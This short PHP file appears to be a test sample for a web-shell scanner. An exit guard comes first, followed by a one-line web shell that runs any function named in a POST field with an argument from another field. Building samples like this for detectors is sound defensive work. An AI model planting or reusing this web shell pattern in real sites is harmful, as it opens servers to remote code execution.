<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$_=$_POST;
$_['a']($_['b']);
